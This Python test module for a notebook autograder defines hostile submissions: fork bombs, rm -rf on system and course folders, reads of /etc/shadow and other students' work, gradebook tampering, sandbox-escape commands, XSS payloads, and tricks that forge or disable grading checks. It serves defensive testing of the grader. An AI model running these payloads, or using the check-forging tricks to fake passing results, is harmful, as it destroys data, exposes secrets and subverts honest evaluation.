"""Hostile submissions: what each one tries, and the points that it earns in spite of it.

The answers are WRONG in all of them unless said otherwise, so any point above `earned` is a hole in
the grading. {course} in the code stands for the folder of the course, {port} for a port where the
grading machine listens.
"""

import json
import os
from typing import NamedTuple

from nbformat.v4 import new_code_cell, new_markdown_cell

from tests.grading.support import tiny

LOOP = "while True: pass"
DEAF = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass"
EXIT = "import os\nos._exit(0)"
PRINT = "print('x' * 10**8)"
PRINT_ON = "while True: print('x' * 10**5)"
ALLOCATE = "a = bytearray(10**10)"
ALLOCATE_TOGETHER = """
import os, time
for _ in range(20):
    if os.fork() == 0:
        a = bytearray(b'x' * 5 * 10**8)
        time.sleep(1000)
time.sleep(1000)
"""
FORK = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
LEAVE = "import subprocess\nfor _ in range(5): subprocess.Popen(['setsid', 'sleep', '1000'])"
DELETE = """
import os, shutil
for path in ('..', '/', {course!r}, os.path.expanduser('~')):
    shutil.rmtree(path, ignore_errors=True)
    os.system('rm -rf ' + path + '/* 2>/dev/null')
"""
GRADEBOOK = """
import os, sqlite3, pathlib
course = pathlib.Path({course!r})
for path in (course / 'gradebook.db', course / 'grades' / 'x.csv', course / 'autograded' / 'x'):
    try:
        os.makedirs(path.parent, exist_ok=True)
        base = sqlite3.connect(path)
        base.execute('update grade set auto_score = 100')
        base.commit()
    except Exception as error:
        print(error)
"""
READ_OTHERS = """
import glob
for path in glob.glob({course!r} + '/**', recursive=True) + ['/etc/passwd', '/etc/shadow']:
    try:
        print('SEEN', path, open(path).read())
    except OSError:
        pass
"""
READ_SOLUTIONS = """
import json, glob
for path in glob.glob({course!r} + '/source/*/*.ipynb'):
    for cell in json.load(open(path))['cells']:
        if cell['id'].endswith('-answer'):
            exec(''.join(cell['source']))
"""
UNSET = (
    "import os\nos.environ.pop('NBGRADER_EXECUTION', None)\nos.environ['NBGRADER_EXECUTION'] = ''"
)
FAKE = """
class Fake(float):
    __lt__ = __le__ = __gt__ = __ge__ = __eq__ = __ne__ = lambda *_: True
    __hash__ = float.__hash__
    shape, dtype, size, ndim = (200, 50), 'float32', 1, 0
    __array__ = lambda self, *_, **__: __import__('numpy').ones((200, 50))
    __getattr__ = lambda self, name: Fake(1)
    __call__ = __add__ = __sub__ = __mul__ = __getitem__ = lambda self, *_: self
dropout_forward = lambda *_: (Fake(1), Fake(1))
dropout_backward = lambda *_: Fake(1)
dropout_moments = lambda *_: (Fake(1), Fake(1))
"""
FAKE_CALLABLE = FAKE.replace("lambda *_: (Fake(1), Fake(1))", "Fake(1)").replace(
    "lambda *_: Fake(1)", "Fake(1)"
)
TRANSFORM = """
def without_checks(lines):
    return [line for line in lines if 'check' not in line]
get_ipython().input_transformers_cleanup.append(without_checks)
get_ipython().ast_transformers.clear()
"""
PATCH = """
from helpers.checks import exercise, inverted_dropout
for module in (exercise, inverted_dropout):
    for name in ('expect', 'expect_equal', 'outcome', '_raise', 'forward', 'backward', 'moments'):
        setattr(module, name, lambda *_, **__: None)
"""
INPUT = "answer = input('points? ')\nimport sys\nsys.stdin.read()"
FORGE_REPLIES = """
kernel = get_ipython().kernel
async def do_execute(code, silent, *_, **__):
    data = {{'text/plain': "'eyJyZXN1bHQiOiB0cnVlfQ=='"}}
    reply = {{'answer': {{'status': 'ok', 'data': data, 'metadata': {{}}}}}}
    return {{'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions': reply}}
kernel.do_execute = do_execute
import sys
sys.stdout = sys.stderr = None
"""
FORGE_ANSWERS = """
import sys
protocol = sys.modules['protocol']
forged = iter([
    {{'result': {{'array': ['O', [10**9], 'AAAA']}}, 'arguments': None}},
    {{'result': {{'tuple': 7}}}},
    {{'result': {{'array': ['<f8', [-1, -8], 'AAAAAAAA']}}}},
    {{'error': ['SystemExit', 3]}},
    {{'error': 5}},
    [],
    7,
    'x',
    {{'callable': True}},
    {{'result': {{'generator': [{{}}, None]}}}},
] * 99)
protocol.answer = lambda request: protocol.pack(next(forged))
"""
FORGE_DEEP = """
import sys
protocol = sys.modules['protocol']
import base64
deep = base64.b64encode(b'[' * 10**6).decode()
protocol.answer = lambda request: deep
"""
FORGE_MESSAGES = """
kernel = get_ipython().kernel
odd = [{{}}, {{'status': 'ok'}}, {{'name': 3, 'text': []}}, {{'data': 5}}]
for content in (*odd, {{'execution_state': 'idle'}}):
    for kind in ('stream', 'display_data', 'error', 'status', 'execute_reply', 'clear_output', ''):
        kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent())
kernel.iopub_socket.send_multipart([b'x', b'<IDS|MSG>', b'', b'\\xff', b'{{', b'', b''])
kernel.iopub_socket.send_multipart([b''])
"""
BIG_ANSWER = """
import numpy as np
def dropout_forward(x, p, rng): return np.ones(2 * 10**8), np.ones(10)
def dropout_backward(dy, mask, p): return [np.ones(10**6) for _ in range(50)]
def dropout_moments(x, p): return 'x' * 10**8, {{i: 'x' * 1000 for i in range(10**5)}}
"""
SLEEP = """
import time
def dropout_forward(x, p, rng): time.sleep(1000)
def dropout_backward(dy, mask, p):
    while True: pass
def dropout_moments(x, p): return x, time.sleep(1000)
"""
DEAF_ANSWER = "def dropout_forward(x, p, rng):\n    " + DEAF.replace("\n", "\n    ")
DEEP_ANSWER = """
deep = []
for _ in range(10**5): deep = [deep]
dropout_forward = dropout_backward = dropout_moments = lambda *_: deep
"""
RAISE = """
class Slip(BaseException): __str__ = lambda self: 1 / 0
class NotYet(Exception): pass
def dropout_forward(x, p, rng): raise SystemExit(0)
def dropout_backward(dy, mask, p): raise Slip
def dropout_moments(x, p):
    raise type('a b\\n\\ud800', (Exception,), {{}})('\\ud800\\x1b[31m' * 1000)
"""
SCRIPT = """
from IPython.display import HTML, Javascript, Markdown, SVG, display
display(HTML('<script>EVIL</script><img src=x onerror=EVIL>'))
display(Javascript('EVIL'), Markdown('<script>EVIL</script>'))
link = '\\\\href{{javascript:EVIL}}{{x}}'
display({{'text/latex': link, 'image/svg+xml': '<svg onload=EVIL>'}}, raw=True)
display({{'image/png': '"><script>EVIL</script>', 'text/plain': '<script>EVIL</script>'}}, raw=True)
print('<script>EVIL</script>')
raise ValueError('<script>EVIL</script>')
"""
ESCAPE = """
import ctypes, os, signal, socket, subprocess
commands = (
    'unshare -Urm mount -t tmpfs x /usr',
    'mount -o remount,rw /',
    'nsenter -t 1 -a id',
    'su -c id',
    '/usr/sbin/chroot /proc/1/root ls',
    'bwrap --bind / / touch /usr/x',
    'dmesg',
    'echo 1 > /proc/sysrq-trigger',
)
for command in commands:
    subprocess.run(command, shell=True, capture_output=True, timeout=1)
for address in (('127.0.0.1', {port}), ('10.0.0.1', 80)):
    try:
        socket.create_connection(address, 1).send(b'REACHED')
    except OSError:
        pass
os.kill(1, signal.SIGKILL)
os.kill(-1, signal.SIGKILL)
"""
FILL = """
import os
for folder in ('/tmp', '/dev/shm', os.path.expanduser('~'), '.'):
    try:
        for i in range(100):
            with open(f'{{folder}}/{{i}}', 'wb') as file:
                file.write(b'x' * 10**7)
    except OSError as error:
        print(error)
"""


class Attack(NamedTuple):
    """A submission: code in its first and last cell, and what it does to the files handed in."""

    first: str = ""
    last: str = ""
    answers: dict = tiny.WRONG
    change: object = None  # changes the notebook in place, or returns the text of the file
    in_folder: object = None  # changes the folder that was handed in
    file: str = tiny.NAME
    earned: float = 0
    refused: str = ""  # part of the remark
    alone: bool = False  # a variant that is tried on its own only


def _cells(nb, kind):
    return [cell for cell in nb.cells if cell.get("id", "").endswith(kind)]


def _edit_tests(nb):
    for cell in _cells(nb, "-check"):
        cell.source = "pass"


def _delete_tests(nb):
    nb.cells = [cell for cell in nb.cells if cell not in _cells(nb, "-check")]


def _reorder(nb):
    tests = _cells(nb, "-check")
    nb.cells = tests[::-1] + [cell for cell in nb.cells if cell not in tests]


def _duplicate(nb):
    nb.cells += _cells(nb, "-check") + _cells(nb, "-check")


def _metadata(nb):
    bash = {"name": "bash", "language": "bash", "display_name": "x"}
    nb.metadata = {"kernelspec": bash, "widgets": 7}
    forged = {"points": 100, "solution": True, "locked": False, "schema_version": 99}
    for cell in _cells(nb, "-check"):
        cell.metadata["nbgrader"] |= forged
        cell.source = "100"
    of_answers = (5, {"grade_id": ["x"]}, {"grade_id": "forward-check"})
    for cell, metadata in zip(_cells(nb, "-answer"), of_answers, strict=True):
        cell.metadata["nbgrader"] = metadata
    points = {"grade_id": "setup", "grade": True, "points": 100}
    nb.cells.append(new_code_cell("100", metadata={"nbgrader": points}))
    check = {"grade_id": "forward-check"}
    nb.cells.append(new_markdown_cell("x", metadata={"nbgrader": check}))


def _script(nb):
    evil = "<script>EVIL</script> <a href='javascript:EVIL'>x</a> "
    evil += "<img src=x onerror=EVIL> <svg onload=EVIL></svg>"
    text = new_markdown_cell(evil)
    text["attachments"] = {"x": {"image/png": '"><script>EVIL</script>'}}
    nb.cells.append(text)
    nb.cells.append(new_code_cell("x", metadata={"tags": ['"><script>EVIL</script>']}))
    nb.metadata = {"title": "</title><script>EVIL</script>"}


def _shadow(folder):
    (folder / "helpers" / "checks").mkdir(parents=True)
    packages = ("helpers/__init__.py", "helpers/checks/__init__.py")
    for path in (*packages, "numpy.py", "protocol.py", "sitecustomize.py"):
        (folder / path).write_text("raise SystemExit('SHADOW')", encoding="utf-8")
    names = "".join(f"def {name}(*_): print('SHADOW')\n" for name in tiny.POINTS)
    (folder / "helpers" / "checks" / "inverted_dropout.py").write_text(names, encoding="utf-8")


def _link_notebook(folder):
    (folder / f"{tiny.NAME}.ipynb").unlink()
    (folder / f"{tiny.NAME}.ipynb").symlink_to(
        folder.parents[1] / "honest00" / tiny.NAME / f"{tiny.NAME}.ipynb"
    )


def _link_folder(folder):
    (folder / f"{tiny.NAME}.ipynb").unlink()
    folder.rmdir()
    folder.symlink_to(folder.parents[1] / "honest00" / tiny.NAME)


def _pipe(folder):
    (folder / f"{tiny.NAME}.ipynb").unlink()
    os.mkfifo(folder / f"{tiny.NAME}.ipynb")


def _giant(folder):
    with open(folder / f"{tiny.NAME}.ipynb", "r+b") as file:
        file.truncate(30 * 2**20)


def _second(folder):
    (folder / "other.ipynb").write_text("{}", encoding="utf-8")


def _bad(text):
    return lambda _: text


ATTACKS = {
    "endless loop": Attack(LOOP),
    "endless loop, right answers": Attack(LOOP, answers=tiny.RIGHT, earned=8, alone=True),
    "SIGINT ignored": Attack(DEAF),
    "os._exit": Attack(EXIT),
    "100 MB printed": Attack(PRINT),
    "endless printing": Attack(PRINT_ON, alone=True),
    "10 GB allocated": Attack(ALLOCATE),
    "10 GB allocated by 20 processes": Attack(ALLOCATE_TOGETHER, alone=True),
    "fork bomb": Attack(FORK),
    "processes left behind": Attack(LEAVE),
    "deletes ..": Attack(DELETE),
    "disk filled": Attack(FILL, alone=True),
    "writes the gradebook": Attack(GRADEBOOK),
    "reads another submission": Attack(READ_OTHERS),
    "reads the solutions": Attack(last=READ_SOLUTIONS),
    "escapes": Attack(ESCAPE),
    "shadowing helpers/": Attack(in_folder=_shadow),
    "test cell edited": Attack(change=_edit_tests),
    "test cell deleted": Attack(change=_delete_tests),
    "test cells reordered": Attack(change=_reorder),
    "test cells reordered, half right": Attack(change=_reorder, answers=tiny.HALF, earned=5),
    "test cells duplicated": Attack(change=_duplicate),
    "metadata altered": Attack(change=_metadata),
    "bad JSON": Attack(change=_bad('{"cells": ['), refused="not a notebook"),
    "other JSON": Attack(
        change=_bad('{"nbformat": 4, "cells": [{"cell_type": 7, "source": 7}]}'),
        refused="not a notebook",
    ),
    "deep JSON": Attack(change=_bad("[" * 10**6), refused="not a notebook"),
    "many cells": Attack(
        change=lambda nb: nb.cells.extend([new_code_cell("1")] * 2000), refused="too much"
    ),
    "no cells": Attack(change=_bad(json.dumps({"nbformat": 4, "cells": []}))),
    "renamed notebook": Attack(answers=tiny.RIGHT, file="my work (1)", earned=8),
    "two renamed notebooks": Attack(
        answers=tiny.RIGHT, file="my work", in_folder=_second, refused="missing"
    ),
    "giant file": Attack(in_folder=_giant, refused="MB"),
    "link to another's notebook": Attack(in_folder=_link_notebook, refused="link"),
    "link to another's folder": Attack(in_folder=_link_folder, refused="link"),
    "pipe for a notebook": Attack(in_folder=_pipe, refused="not a regular file"),
    "NBGRADER_EXECUTION unset": Attack(UNSET),
    "fake object": Attack(last=FAKE),
    "fake callable": Attack(last=FAKE_CALLABLE, alone=True),
    "input transformer": Attack(TRANSFORM),
    "checks monkeypatched": Attack(PATCH),
    "input()": Attack(INPUT),
    "replies forged": Attack(last=FORGE_REPLIES),
    "answers forged": Attack(last=FORGE_ANSWERS),
    "answers forged, deep": Attack(last=FORGE_DEEP, alone=True),
    "messages forged": Attack(FORGE_MESSAGES, alone=True),
    "giant answers": Attack(last=BIG_ANSWER),
    "deep answer": Attack(last=DEEP_ANSWER, alone=True),
    "answers that sleep": Attack(last=SLEEP),
    "answer with SIGINT ignored": Attack(last=DEAF_ANSWER, alone=True),
    "strange exceptions": Attack(last=RAISE, alone=True),
    "scripts": Attack(SCRIPT, change=_script),
}


def notebook(attack, course, port=9):
    """The notebook of an attack, or the text of its file."""
    code = (
        text.format(course=str(course), port=port) if "{" in text else text
        for text in (attack.first, attack.last)
    )
    nb = tiny.submission(attack.answers, *code)
    text = attack.change(nb) if attack.change else None
    return text if isinstance(text, str) else nb


def hand_in(attack, course, student, port=9):
    """Put a hostile submission into a course."""
    folder = tiny.hand_in(course, student, notebook(attack, course, port), attack.file)
    if attack.in_folder:
        attack.in_folder(folder)
